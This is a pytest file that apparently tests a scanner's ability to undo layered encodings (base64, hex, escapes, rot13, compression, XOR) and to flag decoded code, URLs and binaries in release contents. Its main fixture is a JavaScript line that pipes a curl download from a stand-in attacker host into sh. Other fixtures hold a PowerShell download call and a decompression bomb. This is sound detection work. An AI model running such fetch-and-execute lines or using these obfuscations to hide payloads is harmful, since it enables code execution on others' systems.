"""Every encoding is undone alone and in each other, and ordinary text stays what it is."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import hashlib
import itertools
import lzma
import random
import uuid
import zlib

import pytest
import zstandard

from pratique.releases.decoding import DEPTH, MOST_LAYERS, Budget, layers

PLAIN = b"const cp = require('child_process'); cp.exec('curl https://evil.example/x | sh');"


def keyed(content: bytes, key: bytes) -> bytes:
    return bytes(byte ^ key[at % len(key)] for at, byte in enumerate(content))


def deflated(content: bytes) -> bytes:
    stream = zlib.compressobj(9, zlib.DEFLATED, -15)
    return stream.compress(content) + stream.flush()


B64 = base64.b64encode(PLAIN)
FORMS = {
    "base64": (B64, ("base64",)),
    "without padding": (B64.rstrip(b"="), ("base64",)),
    "another sign pads": (base64.b64encode(PLAIN + b"\n\n").replace(b"=", b"_"), ("base64-padding",)),
    "of URLs": (base64.urlsafe_b64encode(PLAIN + "\n// ÿÿ?>~".encode()), ("base64url",)),
    "in lines": (b"\n".join(B64[at : at + 40] for at in range(0, len(B64), 40)), ("base64",)),
    "base32": (base64.b32encode(PLAIN), ("base32",)),
    "base85": (base64.b85encode(PLAIN), ("base85",)),
    "ascii85": (base64.a85encode(PLAIN, adobe=True), ("ascii85",)),
    "hexadecimal": (PLAIN.hex().encode(), ("hex",)),
    "hexadecimal of capitals": (b"0x" + PLAIN.hex().upper().encode(), ("hex",)),
    "hexadecimal, parted": (PLAIN.hex(" ").encode(), ("hex",)),
    r"\x": ("".join(f"\\x{byte:02x}" for byte in PLAIN).encode(), ("escapes",)),
    r"\u": ("".join(f"\\u{byte:04x}" for byte in PLAIN).encode(), ("escapes",)),
    r"\u{}": ("".join(f"\\u{{{byte:x}}}" for byte in PLAIN).encode(), ("escapes",)),
    "octal escapes": ("".join(f"\\{byte:03o}" for byte in PLAIN).encode(), ("escapes",)),
    "percent": ("".join(f"%{byte:02x}" for byte in PLAIN).encode(), ("escapes",)),
    "html": ("".join(f"&#{byte};" for byte in PLAIN).encode(), ("escapes",)),
    "decimal codes": (",".join(map(str, PLAIN)).encode(), ("codes",)),
    "codes in brackets": (str(list(PLAIN)).encode(), ("codes",)),
    "octal codes": (" ".join(f"0{byte:o}" for byte in PLAIN).encode(), ("codes",)),
    "bare octal codes": (" ".join(f"{byte:o}" for byte in PLAIN).encode(), ("octal-codes",)),
    "bits": (" ".join(f"{byte:08b}" for byte in PLAIN).encode(), ("codes",)),
    "reversed": (PLAIN[::-1], ("reversed",)),
    "rot13": (codecs.encode(PLAIN.decode(), "rot13").encode(), ("rot13",)),
    "reversed base64": (B64[::-1], ("reversed", "base64")),
    "rot13 of base64": (codecs.encode(B64.decode(), "rot13").encode(), ("rot13", "base64")),
    "base64 of reversed": (base64.b64encode(PLAIN[::-1]), ("base64", "reversed")),
    "gzip": (base64.b64encode(gzip.compress(PLAIN)), ("base64", "gzip")),
    "zlib": (base64.b64encode(zlib.compress(PLAIN)), ("base64", "zlib")),
    "reversed zlib": (base64.b64encode(zlib.compress(PLAIN)[::-1]), ("base64", "reversed", "zlib")),
    "deflate": (base64.b64encode(deflated(PLAIN)), ("base64", "deflate")),
    "bzip2": (base64.b64encode(bz2.compress(PLAIN)), ("base64", "bzip2")),
    "xz": (base64.b64encode(lzma.compress(PLAIN)), ("base64", "xz")),
    "lzma": (base64.b64encode(lzma.compress(PLAIN, lzma.FORMAT_ALONE)), ("base64", "lzma")),
    "zstd": (base64.b64encode(zstandard.compress(PLAIN)), ("base64", "zstd")),
    "one byte": (base64.b64encode(keyed(PLAIN, b"\x5a")), ("base64", "xor")),
    "five bytes": (keyed(PLAIN * 3, b"Kq\xe993").hex().encode(), ("hex", "xor")),
    "five deep": (
        base64.b64encode(base64.b64encode(base64.b64encode(zlib.compress(PLAIN))).hex().encode()),
        ("base64", "hex", "base64", "base64", "zlib"),
    ),
}


@pytest.mark.parametrize("form", FORMS)
def test_every_form_is_undone(form: str) -> None:
    encoded, names = FORMS[form]
    found = list(layers(encoded, Budget()))
    assert found[-1].encodings == names
    assert found[-1].content.startswith(PLAIN)
    assert found[-1].meaning == "code"
    assert len(found) == 1 or form == "base64 of reversed"


@pytest.mark.parametrize(
    ("literal", "content", "meaning"),
    [
        (b"b3M_", b"os", "word"),
        (b"ZnM", b"fs", "word"),
        (base64.b64encode(b"child_process")[::-1], b"child_process", "word"),
        (b"eriuqer", b"require", "word"),
        (base64.b64encode(b"10.20.30.40:8080"), b"10.20.30.40:8080", "url"),
        (base64.b64encode(b"https://evil.example/"), b"https://evil.example/", "url"),
        (b"elpmaxe.live//:sptth", b"https://evil.example", "url"),
        (base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(60)), b"\x7fELF\x02\x01\x01" + bytes(60), "native"),
        (base64.b64encode(b"\0asm\x01\0\0\0" + bytes(9)), b"\0asm\x01\0\0\0" + bytes(9), "native"),
        (base64.b64encode(b"#!/bin/sh\necho\n"), b"#!/bin/sh\necho\n", "shell"),
        (base64.b64encode("Das ist ein längerer Satz, und er geht weiter.".encode()), None, "text"),
    ],
)
def test_short_ones_that_mean_something(literal: bytes, content: bytes | None, meaning: str) -> None:
    found = list(layers(literal, Budget()))
    assert [layer.meaning for layer in found] == [meaning]
    assert content is None or found[0].content == content


def test_what_powershell_takes_is_read_as_text() -> None:
    line = "Invoke-WebRequest http://evil.example/a"
    (found,) = layers(base64.b64encode(line.encode("utf-16-le")), Budget())
    assert found.encodings == ("base64", "utf-16")
    assert found.content == line.encode()


def test_a_given_key_is_used_for_what_is_too_short_to_show_one() -> None:
    literal = base64.b64encode(keyed(b"require http", b"Kqe93"))
    assert list(layers(literal, Budget())) == []
    (found,) = layers(literal, Budget(), keys=[b"Kqe93"])
    assert (found.encodings, found.content) == (("base64", "xor"), b"require http")


def test_no_deeper_than_the_depth() -> None:
    def nested(times: int) -> bytes:
        content = PLAIN
        for _ in range(times):
            content = base64.b64encode(content)
        return content

    assert [len(layer.encodings) for layer in layers(nested(DEPTH), Budget())] == [DEPTH]
    assert list(layers(nested(DEPTH + 1), Budget())) == []


def test_a_bomb_is_cut_off_and_told() -> None:
    bomb = base64.b64encode(gzip.compress(bytes(64 << 20)))
    budget = Budget(octets=1 << 20)
    assert list(layers(bomb, budget)) == []
    assert budget.exhausted
    assert budget.octets >= 0


def test_what_is_cut_off_is_still_shown() -> None:
    literal = base64.b64encode(gzip.compress(PLAIN * 10_000))
    budget = Budget(octets=100_000)
    (found,) = layers(literal, budget)
    assert found.content.startswith(PLAIN)
    assert len(found.content) <= 100_000
    assert budget.exhausted


def test_no_steps_left_is_told() -> None:
    budget = Budget(steps=1)
    assert list(layers(B64[::-1], budget)) == []
    assert budget.exhausted


def test_ordinary_strings_decode_to_nothing() -> None:
    chance = random.Random(5)
    hashes = [getattr(hashlib, name)(bytes([number])) for number in range(200) for name in ("md5", "sha1", "sha256")]
    strings = [
        *(digest.hexdigest() for digest in hashes),
        *(base64.b64encode(digest.digest()).decode() for digest in hashes),
        *(f"sha512-{base64.b64encode(hashlib.sha512(bytes([n])).digest()).decode()}" for n in range(100)),
        *(str(uuid.UUID(int=chance.getrandbits(128))) for _ in range(500)),
        *(
            "".join(chance.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", k=k))
            for k in range(3, 300)
        ),
        *(
            " ".join(pair)
            for pair in itertools.permutations(["flex", "hidden", "sm:block", "md:w-1/2", "px-4", "btn-primary"], 2)
        ),
        *[
            "getElementById",
            "addEventListener",
            "application/json",
            "application/x-www-form-urlencoded",
            "text/html",
            "utf-8",
        ],
        "Permission is hereby granted, free of charge, to any person obtaining a copy of this software",
        "M12 2C6.48 2 2 6.48 2 12s4.48 10 10 10 10-4.48 10-10S17.52 2 12 2zm0 18c-4.41 0-8-3.59-8-8",
        "https%3A%2F%2Fexample.com%2Fa%20b",
        "0,1,2,3,4,5,6,7,8,9,10",
        "\\u0041-\\u005A\\u0061-\\u007A\\u00AA\\u00B5",
        "2024-01-01T00:00:00.000Z",
        "1.2.3-beta.4",
    ]
    budget = Budget()
    false = {text: found for text in strings if (found := list(layers(text.encode(), budget)))}
    assert false == {}
    assert not budget.exhausted
    assert MOST_LAYERS == 8
